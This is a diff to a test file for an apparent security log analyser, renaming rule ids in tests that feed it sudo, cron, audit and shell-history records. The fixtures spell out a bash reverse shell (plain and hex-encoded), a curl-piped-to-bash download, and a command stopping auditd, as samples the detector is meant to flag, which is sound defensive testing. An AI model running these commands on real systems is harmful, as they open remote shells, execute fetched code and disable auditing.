@@ -18,13 +18,13 @@ const storm = Array.from({ length: 100 }, (_, index) =>
 );
 
 test.each([
-  ['sudo', sudo("/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"), 'typed/reverse-shell'],
+  ['sudo', sudo("/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"), 'command/reverse-shell'],
   ['sudo', sudo('/usr/bin/systemctl stop auditd'), 'command/security-tool-stopped'],
-  ['cron', `${at(1)} CRON[812]: (root) CMD (curl -s http://198.51.100.7/x.sh | bash)`, 'typed/fetched-and-run'],
+  ['cron', `${at(1)} CRON[812]: (root) CMD (curl -s http://198.51.100.7/x.sh | bash)`, 'command/fetched-and-run'],
   [
     'the audit in syslog',
     `${at(1)} audispd: type=EXECVE msg=audit(1700000000.123:4): argc=3 a0="bash" a1="-c" a2=${hex('bash -i >& /dev/tcp/198.51.100.23/4444 0>&1')}`,
-    'typed/reverse-shell',
+    'command/reverse-shell',
   ],
 ])('a command that %s recorded is judged, and cited by its line', (_who, record, rule) => {
   const { findings, verdict } = judge([sudo('/bin/ls'), sudo('/bin/ls'), record]);
@@ -163,6 +163,6 @@ test('what is not judged of a log is said, and never clean', () => {
 test('many light findings do not push a grave one out', () => {
   const light = Array.from({ length: 400 }, (_, index) => `crontab /srv/jobs${index}`);
   const { findings, not_checked } = judge([...light, 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'], '.bash_history');
-  expect(findings[0]).toMatchObject({ rule: 'typed/reverse-shell' });
+  expect(findings[0]).toMatchObject({ rule: 'command/reverse-shell' });
   expect(not_checked).toContainEqual(expect.objectContaining({ what: '101 lesser findings' }));
 });
